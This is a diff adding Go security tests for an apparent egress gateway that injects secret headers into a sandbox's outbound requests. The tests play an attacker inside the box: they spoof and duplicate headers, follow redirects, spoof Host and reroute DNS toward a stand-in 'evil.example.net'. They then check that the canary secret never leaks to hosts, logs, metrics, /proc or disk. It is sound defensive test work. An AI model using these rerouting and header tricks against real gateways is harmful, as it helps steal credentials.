@@ -1,0 +1,309 @@
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"io/fs"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"boxgate/audit"
+	"boxgate/internal/testnet"
+	"boxgate/policy"
+)
+
+// TestAttackOwnVariantsOfAnInjectedHeader sends what the gateway sets, in every way that a server might take for it.
+func TestAttackOwnVariantsOfAnInjectedHeader(t *testing.T) {
+	t.Parallel()
+	change, start := withOrigin(t)
+	w := newWorld(t, change)
+	origin := start(w)
+	in := w.intrude(w.create(map[string]any{
+		"network_policy": custom(originName),
+		"attach_headers": map[string]any{originName: map[string]string{"X-Api-Key": canary, "Authorization": "Bearer " + canary}},
+	}))
+	check := func(how string) {
+		got := origin.received()
+		low := strings.ReplaceAll(strings.ToLower(got), "_", "-")
+		if strings.Count(low, "x-api-key") != 1 || strings.Count(low, "authorization") != 1 || strings.Contains(got, "mine") ||
+			!strings.Contains(got, "\r\nX-Api-Key: "+canary+"\r\n") || !strings.Contains(got, "\r\nAuthorization: Bearer "+canary+"\r\n") {
+			t.Errorf("%s: the origin received %q", how, got)
+		}
+	}
+	for how, fields := range map[string]string{
+		"nothing":            "",
+		"the same spelling":  "X-Api-Key: mine\r\nAuthorization: mine\r\n",
+		"small letters":      "x-api-key: mine\r\nauthorization: mine\r\n",
+		"capital letters":    "X-API-KEY: mine\r\nAUTHORIZATION: mine\r\n",
+		"underscores":        "X_Api_Key: mine\r\n",
+		"both":               "x-api_key: mine\r\nX_API-KEY: mine\r\n",
+		"twice":              "X-Api-Key: mine\r\nX-Api-Key: mine\r\nauthorization: mine\r\nAuthorization: mine\r\n",
+		"an empty value":     "X-Api-Key:\r\nAuthorization:\r\n",
+		"for this hop alone": "Connection: X-Api-Key, Authorization\r\nX-Api-Key: mine\r\n",
+		"for this hop, late": "X-Api-Key: mine\r\nConnection: keep-alive, x-api-key, authorization\r\n",
+	} {
+		c := in.tls(in.dialHost(originName, 443), originName)
+		if res, _ := exchange(t, c, bufio.NewReader(c), "GET / HTTP/1.1\r\nHost: "+originName+"\r\n"+fields+"\r\n"); res.StatusCode != 200 {
+			t.Errorf("%s: %d", how, res.StatusCode)
+		}
+		if how == "for this hop alone" || how == "for this hop, late" {
+			how += " (h1)"
+		}
+		check(how)
+	}
+	for how, fields := range map[string][]field{
+		"over HTTP/2":              {{"x-api-key", "mine"}, {"authorization", "mine"}},
+		"twice over HTTP/2":        {{"x-api-key", "mine"}, {"x-api-key", "mine"}, {"authorization", "mine"}, {"authorization", "mine"}},
+		"underscores, over HTTP/2": {{"x_api_key", "mine"}, {"x-api_key", "mine"}},
+	} {
+		f := in.frames(originName)
+		f.send(1, true, head(originName, fields...)...)
+		if got := f.outcome(1); got != "200" {
+			t.Errorf("%s: %s", how, got)
+		}
+		check(how)
+	}
+}
+
+// TestAttackSecretsGoNowhereElse asks for the secret's host in ways in which the secret must not be sent.
+func TestAttackSecretsGoNowhereElse(t *testing.T) {
+	t.Parallel()
+	change, start := withOrigin(t)
+	w := newWorld(t, change)
+	origin := start(w)
+	if err := w.Net.AddHost("misnamed.example.com", "198.51.100.77"); err != nil { // whose certificate names the origin alone
+		t.Fatal(err)
+	}
+	key := map[string]string{"X-Key": canary}
+	box := w.create(map[string]any{
+		"network_policy": custom("*.example.com", "evil.example.net"),
+		"attach_headers": map[string]any{
+			"api.example.com": key, "bad-cert.example.com": key, "misnamed.example.com": key, "ws.example.com:8443": key,
+		},
+	})
+	// code runs curl in the box and returns the status, or curl's exit code where there is none.
+	code := func(arguments string) string {
+		out, exit := w.sh(box, "curl -k -sS -o /tmp/body -w '%{http_code}' "+arguments)
+		if exit != 0 {
+			return fmt.Sprintf("exit %d", exit)
+		}
+		return strings.TrimSpace(out)
+	}
+	for arguments, want := range map[string]string{
+		"http://api.example.com/x":                                                                              "200",
+		"http://api.example.com:8080/x":                                                                         "200",
+		"https://api.example.com:8443/x":                                                                        "200", // the rule is for 443
+		"https://ws.example.com/x":                                                                              "200", // the rule is for 8443
+		"-L 'https://api.example.com/redirect?to=https://evil.example.net/x'":                                   "200",
+		"-L 'https://api.example.com/redirect?to=http://evil.example.net/x'":                                    "200",
+		"-L 'https://api.example.com/redirect?to=http://api.example.com/x'":                                     "200",
+		"-L 'https://api.example.com/redirect?to=https://www.example.com/x'":                                    "200",
+		"https://bad-cert.example.com/x":                                                                        "502",
+		"--http1.1 https://bad-cert.example.com/x":                                                              "502",
+		"https://misnamed.example.com/x":                                                                        "502",
+		"-X TRACE https://api.example.com/x":                                                                    "405",
+		"-H 'Host: evil.example.net' https://api.example.com/x":                                                 "421",
+		"-x http://10.200.0.1:3128 http://api.example.com/x":                                                    "200",
+		"--resolve api.example.com:443:" + w.v4("evil.example.net").String() + " https://api.example.com/owner": "200",
+		"--connect-to api.example.com:443:evil.example.net:443 https://api.example.com/owner":                   "200",
+	} {
+		if got := code(arguments); got != want {
+			t.Errorf("curl %s: %s, want %s", arguments, got, want)
+		}
+	}
+	received := w.Net.Received("", testnet.Of(testnet.Request))
+	owner := 0
+	for _, r := range received {
+		secret := strings.Contains(fmt.Sprint(r), canary)
+		switch path, _, _ := strings.Cut(r.Target, "?"); {
+		case path == "/redirect", path == "/owner" && r.SNI == "api.example.com":
+			if owner++; !secret || !strings.HasPrefix(r.Addr.String(), w.v4("api.example.com").String()+":443") && r.Addr.Addr().Is4() {
+				t.Errorf("the owner of the name received %+v", r)
+			}
+		case secret:
+			t.Errorf("the secret went to %+v", r)
+		}
+	}
+	if owner != 6 || len(received) < 14 {
+		t.Errorf("%d requests arrived, %d at the owner of the name", len(received), owner)
+	}
+	if got := origin.received(); got != "" {
+		t.Errorf("a host that its certificate does not name received %q", got)
+	}
+	for _, host := range []string{"bad-cert.example.com", "misnamed.example.com"} {
+		if len(w.Net.Received(host, testnet.Of(testnet.Request))) != 0 {
+			t.Errorf("%s received a request", host)
+		}
+		w.event(box, func(e audit.Event) bool {
+			return e.Name == host && e.Reason == policy.ReasonUpstreamTLS && e.Headers == nil
+		})
+	}
+}
+
+// forms are the ways in which a secret may show.
+func forms(secret string) map[string][]byte {
+	out := map[string][]byte{
+		"plain": []byte(secret), "hex": []byte(hex.EncodeToString([]byte(secret))),
+		"HEX": []byte(strings.ToUpper(hex.EncodeToString([]byte(secret)))), "backwards": reversed(secret),
+	}
+	for shift := range 3 { // wherever it lies in what was encoded
+		whole := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", shift) + secret))
+		out[fmt.Sprintf("base64 at %d", shift)] = []byte(whole[4 : len(whole)-4])
+	}
+	return out
+}
+
+func reversed(s string) []byte {
+	out := []byte(s)
+	for i, j := 0, len(out)-1; i < j; i, j = i+1, j-1 {
+		out[i], out[j] = out[j], out[i]
+	}
+	return out
+}
+
+// TestAttackCanaryIsSeenNowhere uses a secret in every way at debug level and then looks for it everywhere.
+func TestAttackCanaryIsSeenNowhere(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, nil)
+	secret := "canary-" + strings.Repeat("Zq7", 8) + "-end"
+	headers := func(value string) map[string]any {
+		return map[string]any{"api.example.com": map[string]string{"X-Key": value}, "bad-cert.example.com": map[string]string{"X-Key": value}}
+	}
+	box := w.create(map[string]any{
+		"name": "canary", "network_policy": custom("api.example.com", "bad-cert.example.com"), "attach_headers": headers(secret),
+	})
+	seen := map[string][]byte{}
+	keep := func(where string, what []byte) { seen[where] = append(seen[where], what...) }
+	ask := func(method, path string, body any) {
+		var answer json.RawMessage
+		err := w.Client.Do(t.Context(), method, path, body, &answer)
+		keep(method+" "+path, append(answer, fmt.Sprint(err)...))
+	}
+
+	// Use it: every kind of request, refusal and fault.
+	out := w.mustSh(box, `for p in /plain /sse /slow/100000; do curl -sS -m 0.3 https://api.example.com$p; curl -sS -m 0.3 --http1.1 https://api.example.com$p; done
+curl -sS https://bad-cert.example.com/; curl -sS -X TRACE https://api.example.com/; curl -sS -H 'Host: other' https://api.example.com/
+curl -sS http://api.example.com/; curl -sS --http1.1 -H 'Transfer-Encoding: chunked' -H 'Content-Length: 3' -d abc https://api.example.com/; env; set; true`)
+	keep("the box's output", []byte(out))
+	in := w.intrude(box)
+	bad := in.tls(in.dialHost("api.example.com", 443), "api.example.com")
+	if _, err := io.WriteString(bad, "POST /cut HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 100\r\n\r\nhalf"); err != nil {
+		t.Fatal(err)
+	}
+	bad.NetConn().Close()
+	if got := in.Net.Received("api.example.com", testnet.Of(testnet.Request)); len(got) < 4 || got[0].Header.Get("X-Key") != secret {
+		t.Fatalf("the secret is not in use: %+v", got)
+	}
+
+	// Ask for it.
+	for _, path := range []string{"/v2/box", boxPath(box), boxPath(box, "config/attach-headers"), "/v2/box/settings/attach-headers",
+		boxPath(box, "config/network-policy"), boxPath(box, "logs"), boxPath(box, "runs"), boxPath(box, "status"), "/openapi.json"} {
+		ask("GET", path, nil)
+	}
+	ask("PUT", boxPath(box, "config/attach-headers"), map[string]any{"attach_headers": headers(secret + "\n")})
+	ask("PUT", boxPath(box, "config/attach-headers"), map[string]any{"attach_headers": map[string]any{"*": map[string]string{"X-Key": secret}}})
+	ask("PUT", boxPath(box, "config/attach-headers"), map[string]any{"attach_headers": map[string]any{"api.example.com": secret}})
+	ask("POST", "/v2/box", map[string]any{"attach_headers": map[string]any{"not a host": map[string]string{"X-Key": secret}}})
+	ask("POST", boxPath(box, "egress/explain"), map[string]any{"host": "api.example.com", "port": 443})
+	ask("PUT", boxPath(box, "config/attach-headers"), map[string]any{"attach_headers": headers(secret + "2")})
+	for _, args := range [][]string{{"headers", "list", "--box", box}, {"headers", "list", "--box", box, "--json"}, {"box", "get", box}, {"box", "list", "--json"},
+		{"policy", "get", box}, {"log", "--box", box}} {
+		out, _ := w.gatewayCommand(args...)
+		keep("gateway "+strings.Join(args, " "), []byte(out))
+	}
+	for _, e := range w.events(box) {
+		keep("the decisions", fmt.Appendf(nil, "%+v", e))
+	}
+	keep("metrics", w.metrics())
+
+	// Look for it from inside and on the disk; what is no secret is found there.
+	for _, root := range []string{filepath.Join(w.dir, "state"), w.log.Name()} {
+		if fileWith(t, root, []byte("bad-cert.example.com")) == "" {
+			t.Errorf("the search finds nothing in %s", root)
+		}
+	}
+	for form, want := range forms(secret) {
+		if form == "plain" {
+			if found := strings.Fields(firstOf(w.sh(box, searchLine(secret)))); strings.Join(found, " ") != "0 0 0" {
+				t.Errorf("matches in environment, /proc and files of the box: %v", found)
+			}
+		}
+		for where, what := range seen {
+			if bytes.Contains(what, want) {
+				t.Errorf("%s shows the secret (%s)", where, form)
+			}
+		}
+		for _, root := range []string{filepath.Join(w.dir, "state"), labRunDir(w.dir), w.log.Name(), w.config} {
+			if file := fileWith(t, root, want); file != "" {
+				t.Errorf("%s holds the secret (%s)", file, form)
+			}
+		}
+	}
+	for pid, what := range processes(t) {
+		if bytes.Contains(what, []byte(secret)) && pid != fmt.Sprint(os.Getpid()) {
+			t.Errorf("the command line or environment of process %s holds the secret", pid)
+		}
+	}
+	limits, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", w.process.Process.Pid))
+	if err != nil || !strings.Contains(strings.Join(strings.Fields(string(limits)), " "), "Max core file size 0 0") {
+		t.Errorf("the gateway may dump core: %v %s", err, limits)
+	}
+}
+
+// metrics reads what Prometheus would.
+func (w *world) metrics() []byte {
+	w.t.Helper()
+	client := &http.Client{Transport: &http.Transport{DialContext: w.Net.Gateway().DialContext, DisableKeepAlives: true}}
+	res, err := client.Get("http://127.0.0.1:9600/metrics")
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	defer res.Body.Close()
+	body, err := io.ReadAll(res.Body)
+	if err != nil || !bytes.Contains(body, []byte("boxgate")) {
+		w.t.Fatalf("metrics: %v %s", err, body)
+	}
+	return body
+}
+
+// fileWith returns the first file below root that holds want.
+func fileWith(t *testing.T, root string, want []byte) (found string) {
+	t.Helper()
+	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() || found != "" {
+			return nil // what is not there any more holds nothing
+		}
+		if data, err := os.ReadFile(path); err == nil && bytes.Contains(data, want) {
+			found = path
+		}
+		return nil
+	})
+	if err != nil {
+		t.Error(err)
+	}
+	return found
+}
+
+// processes returns the command line and environment of every process.
+func processes(t *testing.T) map[string][]byte {
+	t.Helper()
+	dirs, err := filepath.Glob("/proc/[0-9]*")
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := map[string][]byte{}
+	for _, dir := range dirs {
+		line, _ := os.ReadFile(filepath.Join(dir, "cmdline")) // gone by now: nothing to see
+		environ, _ := os.ReadFile(filepath.Join(dir, "environ"))
+		out[filepath.Base(dir)] = append(line, environ...)
+	}
+	return out
+}
